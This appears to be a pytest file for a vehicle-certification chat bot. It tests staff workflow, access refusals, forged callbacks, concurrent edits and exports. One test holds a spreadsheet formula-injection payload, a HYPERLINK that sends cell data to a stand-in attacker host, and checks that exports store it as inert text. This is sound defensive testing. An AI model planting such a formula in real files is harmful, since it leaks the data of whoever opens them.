"""The staff desk end to end: the whole workflow with the applicant notified in their
language, refusals for non-staff, a concurrent double action, exports, roles."""
from __future__ import annotations

import asyncio
import csv
import io

import pytest
from openpyxl import load_workbook

from domain import export
from emulator.client import Person
from tests.desk_helpers import VEHICLE, applicant_with_application, staff_member

STAFF_COMMANDS = ["/queue", "/app EV-2026-000001", "/export", "/grant 1", "/revoke 1", "/reload"]


async def test_staff_moves_an_application_through_the_whole_workflow(person, bot, client, clock):
    applicant, case = await applicant_with_application(person, bot, "kk")
    staff = await staff_member(client)
    replies = await staff.send("/queue")
    assert "Очередь заявок" in replies.text and "подана: 1" in replies.text
    await staff.press("подана (1)")
    replies = await staff.press("EV-2026-000001")
    assert "Заявка EV-2026-000001" in replies.text and "Айгерим Нурланова" in replies.text

    async def applicant_sees(expected: str) -> str:
        found = await applicant._collect()
        assert expected in found.text, found.text
        return found.text

    await staff.press("Взять на рассмотрение")
    await applicant_sees("мәртебесі енді қаралуда")

    replies = await staff.press("Запросить документы")
    # What is missing is ticked already (nothing was uploaded): untick all but two.
    ticked = [b for b in replies.buttons() if b.startswith("✅ ")]
    keep = ("✅ Титул", "✅ Договор купли-продажи")
    assert all(any(b.startswith(k) for b in ticked) for k in keep)
    for label in ticked:
        if not label.startswith(keep):
            await staff.press(label)
    await staff.press("Продолжить")
    replies = await staff.send("Нужен инвойс с печатью продавца")
    assert "Статус изменён на «запрошены документы»" in replies.text
    text = await applicant_sees("қосымша құжаттар сұратылды")
    assert "Меншік құжаты" in text and "Нужен инвойс с печатью продавца" in text

    await applicant.press("Құжат қосу")
    await applicant.press("Меншік құжаты")
    await applicant.send_file("title.pdf", b"%PDF-1.4 title", "application/pdf")

    replies = await staff.send("/app EV-2026-000001")
    assert "✅ Титул" in replies.text
    await staff.press("Взять на рассмотрение")
    await applicant_sees("қаралуда")

    await staff.press("Назначить осмотр")
    replies = await staff.send("31.02.2026 10:00")
    assert "будущие дату и время" in replies.text
    await staff.send("28.11.2026 10:30")
    await staff.send("Өскемен, Серікбаев к-сі, 19")
    text = await applicant_sees("қарап тексеру")
    assert "2026\u202fж. 28 қараша, 10:30" in text and "Серікбаев" in text

    await staff.press("Начать испытания")
    await applicant_sees("сынақ жүргізілуде")
    await staff.press("Одобрить")
    await staff.send("KZ-SBKTS-2026-0042")
    text = await applicant_sees("мақұлданды")
    assert "KZ-SBKTS-2026-0042" in text and "ЭПТС" in text

    history = await bot.runtime.repos.applications.history(case.id)
    assert [h.to_status for h in history if not h.event] == [
        "submitted", "in_review", "documents_requested", "in_review", "inspection", "testing",
        "approved"]
    assert [h.kinds for h in history if h.event == "documents_received"] == [("title",)]
    assert all(h.actor_id == 900002 for h in history[1:] if not h.event)
    replies = await staff.send("/app EV-2026-000001")
    assert "СБКТС/ОТТС: KZ-SBKTS-2026-0042" in replies.text
    assert not any(label in replies.buttons() for label in ("⛔ Отклонить", "✅ Одобрить"))


async def test_rejection_needs_a_reason_and_reaches_the_applicant(person, bot, client):
    applicant, case = await applicant_with_application(person, bot, "zh")
    staff = await staff_member(client)
    await staff.send("/app EV-2026-000001")
    await staff.press("Отклонить")
    await staff.send("Не совпадает VIN в документах")
    found = await applicant._collect()
    assert "已驳回" in found.text and "Не совпадает VIN" in found.text


@pytest.mark.parametrize("command", STAFF_COMMANDS)
async def test_non_staff_get_a_refusal_from_every_staff_command(person, bot, command):
    applicant, _ = await applicant_with_application(person, bot, "ru")
    replies = await applicant.send(command)
    assert "только для сотрудников" in replies.text or "только для администраторов" in replies.text
    assert "EV-2026-000001" not in replies.text


@pytest.mark.parametrize("data", ["st:q", "st:q:submitted:0", "st:v:1", "st:f:1",
                                  "st:t:1:submitted:in_review", "st:t:1:testing:approved",
                                  "st:rd:contract", "st:rdok", "st:nc", "st:zz", "x:all",
                                  "xp:all:0"])
async def test_forged_staff_callbacks_are_refused(person, bot, data):
    applicant, case = await applicant_with_application(person, bot, "ru")
    replies = await applicant.press_data(data, forge=True, expect=0)
    assert replies.callback["text"] == "Эта команда только для сотрудников центра сертификации."
    assert replies.events == []
    assert (await bot.runtime.repos.applications.get(case.id)).status == "submitted"


async def test_a_concurrent_double_action_is_refused(person, bot, client):
    applicant, case = await applicant_with_application(person, bot, "ru")
    first = await staff_member(client, 900002)
    second = await staff_member(client, 900001)  # the admin
    await first.send("/app EV-2026-000001")
    await second.send("/app EV-2026-000001")
    a = first.find_button("Взять на рассмотрение")
    b = second.find_button("Отклонить")
    # Both press at the same moment, each on the card as they saw it.
    await asyncio.gather(client.press(first.user_id, *a), client.press(second.user_id, *b))
    one, two = await first._collect(expect=0), await second._collect(expect=0)
    # The rejection needs a reason: typed after the other's change has landed.
    reason = await second.send("Дубликат") if "Причина отклонения" in two.text else two
    texts = one.text + two.text + reason.text
    history = await bot.runtime.repos.applications.history(case.id)
    assert [h.to_status for h in history] == ["submitted", "in_review"]
    assert "Эту заявку уже изменил кто-то другой: сейчас она «на рассмотрении»" in texts


async def test_two_staff_taking_the_same_application_at_once(person, bot, client):
    applicant, case = await applicant_with_application(person, bot, "ru")
    first = await staff_member(client, 900002)
    second = await staff_member(client, 900001)
    await first.send("/app EV-2026-000001")
    await second.send("/app EV-2026-000001")
    a = first.find_button("Взять на рассмотрение")
    b = second.find_button("Взять на рассмотрение")
    await asyncio.gather(client.press(first.user_id, *a), client.press(second.user_id, *b))
    texts = (await first._collect(expect=0)).text + (await second._collect(expect=0)).text
    assert texts.count("Статус изменён на «на рассмотрении»") == 1
    assert texts.count("уже изменил кто-то другой") == 1
    history = await bot.runtime.repos.applications.history(case.id)
    assert [h.to_status for h in history] == ["submitted", "in_review"]
    notices = await applicant._collect(expect=0)
    assert notices.text.count("статус теперь на рассмотрении") == 1  # notified once


async def test_staff_cannot_skip_steps_even_with_valid_looking_callbacks(person, bot, client):
    applicant, case = await applicant_with_application(person, bot, "ru")
    staff = await staff_member(client)
    await staff.send("/app EV-2026-000001")
    replies = await staff.press_data(f"st:t:{case.id}:submitted:approved", forge=True, expect=0)
    assert replies.callback is not None
    assert "не допускается" in replies.callback["text"]
    replies = await staff.press_data(f"st:t:{case.id}:testing:approved", forge=True, expect=0)
    assert replies.callback is not None
    assert "не допускается" not in (replies.callback["text"] or "")
    assert "уже изменил кто-то другой" in replies.text  # it is not in testing: refused
    assert (await bot.runtime.repos.applications.get(case.id)).status == "submitted"


async def test_export_excel_holds_the_same_rows_as_csv(person, bot, client):
    for lang in ("kk", "ru", "zh"):
        await applicant_with_application(person, bot, lang)
    staff = await staff_member(client, lang="kk")
    await staff.send("/export")
    await staff.press("Барлық мәртебелер")
    replies = await staff.press("Барлық уақыт")
    files = [e for e in replies.events if e.get("kind") == "document"]
    assert len(files) == 2
    csv_rows = list(csv.reader(io.StringIO((await client.file(files[0]["file_id"])).decode(
        "utf-8-sig"))))
    book = load_workbook(io.BytesIO(await client.file(files[1]["file_id"])))
    xlsx_rows = [["" if v is None else str(export.csv_cell(v)) for v in row]
                 for row in book.active.iter_rows(values_only=True)]
    assert len(csv_rows) == 4 and csv_rows == xlsx_rows
    assert csv_rows[0][:3] == ["Нөмірі", "Мәртебесі", "Жіберілген күні"]  # staff's language
    assert csv_rows[1][1] == "жіберілді"
    assert "3 өтінім экспортталды" in files[1]["text"]


async def test_export_never_turns_a_typed_name_into_a_formula(person, bot, client):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    user = await person("ru")
    await user.send("/start")
    repos, now = bot.runtime.repos, bot.clock.timestamp()
    draft = await repos.applications.create_draft(
        user.user_id, {**VEHICLE, "applicant_name": formula}, now)
    await repos.applications.submit(draft.id, 2026, user.user_id, now)
    staff = await staff_member(client)
    await staff.send("/export")
    await staff.press("Все статусы")
    replies = await staff.press("За всё время")
    files = [e for e in replies.events if e.get("kind") == "document"]
    csv_rows = list(csv.reader(io.StringIO((await client.file(files[0]["file_id"])).decode(
        "utf-8-sig"))))
    column = csv_rows[0].index("Имя заявителя")
    assert csv_rows[1][column] == "'" + formula  # a spreadsheet shows it as text
    assert csv_rows[1][csv_rows[0].index("Телефон")] == "+77011234567"  # a number: as it is
    sheet = load_workbook(io.BytesIO(await client.file(files[1]["file_id"]))).active
    cell = sheet.cell(row=2, column=column + 1)
    assert (cell.value, cell.data_type) == (formula, "s")  # text, never a formula ("f")
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


async def test_grant_and_revoke_are_admin_only_recorded_and_set_the_menu(person, bot, client):
    applicant, _ = await applicant_with_application(person, bot, "ru")
    staff = await staff_member(client, 900002)
    assert "только для администраторов" in (await staff.send(f"/grant {applicant.user_id}")).text
    admin = await staff_member(client, 900001)
    replies = await admin.send(f"/grant {applicant.user_id}")
    assert "теперь сотрудник" in replies.text
    commands = await client.commands()
    assert "queue" in [c["command"] for c in commands[f"chat:{applicant.user_id}|"]]
    assert "Очередь заявок" in (await applicant.send("/queue")).text
    await admin.send(f"/revoke {applicant.user_id}")
    assert "только для сотрудников" in (await applicant.send("/queue")).text
    commands = await client.commands()
    assert "queue" not in [c["command"] for c in commands[f"chat:{applicant.user_id}|"]]
    rows = await bot.runtime.repos.db.fetchall(
        "SELECT action, actor_id FROM role_grants WHERE user_id = ? ORDER BY id",
        (applicant.user_id,))
    assert [(r["action"], r["actor_id"]) for r in rows] == [("grant", 900001),
                                                            ("revoke", 900001)]


async def test_config_staff_cannot_be_revoked_by_command(bot, client):
    admin = await staff_member(client, 900001)
    await staff_member(client, 900002)
    replies = await admin.send("/revoke 900002")
    assert "по файлу конфигурации" in replies.text


async def test_staff_menu_only_in_staff_chats(person, bot, client):
    await staff_member(client, 900002)
    user = await person("ru")
    await user.send("/start")
    await bot.restart()  # start-up publishes the staff menu for known staff
    commands = await client.commands()
    assert "queue" in [c["command"] for c in commands["chat:900002|"]]
    assert "queue" not in [c["command"] for c in commands["default|ru"]]
    assert f"chat:{user.user_id}|" not in commands


async def test_staff_find_the_queue_in_their_menu_with_a_way_back(person, bot, client):
    await applicant_with_application(person, bot, "ru")
    staff = await Person(client, user_id=900002, language_code="ru").join()
    replies = await staff.send("/start")  # no "importer or engineer?" question for staff
    assert "Главное меню" in replies.text and "🗂 Очередь заявок" in replies.buttons()
    replies = await staff.press("Очередь заявок")
    assert "Очередь заявок" in replies.text and "подана: 1" in replies.text
    replies = await staff.press("Главное меню")
    assert "Главное меню" in replies.text
    user = await person("ru")  # an applicant's menu has no such button
    await user.send("/start")
    replies = await user.press("Импортёр")
    assert "Главное меню" in replies.text and "🗂 Очередь заявок" not in replies.buttons()
